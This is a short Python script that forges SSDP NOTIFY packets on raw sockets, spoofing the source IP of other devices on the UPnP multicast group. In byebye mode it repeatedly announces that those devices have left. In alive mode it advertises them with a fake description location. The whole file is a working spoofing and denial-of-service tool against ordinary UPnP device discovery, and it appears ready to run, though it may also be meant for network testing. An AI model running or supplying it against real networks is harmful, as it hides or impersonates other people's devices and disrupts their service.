# SPDX-License-Identifier: ISC
"""Sends what other devices might say from their own addresses: byebyes four times a second, or that each is alive, once.

usage: forged_notifies.py byebye|alive SECONDS [UDN ADDRESS]..."""
import socket
import struct
import sys
import time

GROUP = "239.255.255.250"
WHAT = sys.argv[1]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def packet(udn, address):
    alive = f"CACHE-CONTROL: max-age=86400\r\nLOCATION: http://{address}:9/{udn}.xml\r\n" if WHAT == "alive" else ""
    text = (f"NOTIFY * HTTP/1.1\r\nHOST: {GROUP}:1900\r\nNT: upnp:rootdevice\r\nUSN: {udn}::upnp:rootdevice\r\n"
            f"NTS: ssdp:{WHAT}\r\n{alive}\r\n").encode()
    udp = struct.pack("!HHHH", 1900, 1900, 8 + len(text), 0) + text
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 2, 17, 0, socket.inet_aton(address), socket.inet_aton(GROUP)) + udp


packets = [packet(*pair) for pair in zip(sys.argv[3::2], sys.argv[4::2])]
end = time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    for each in packets:
        raw.sendto(each, (GROUP, 0))
        time.sleep(0.0005)
    if WHAT == "alive":
        break
    time.sleep(0.25)
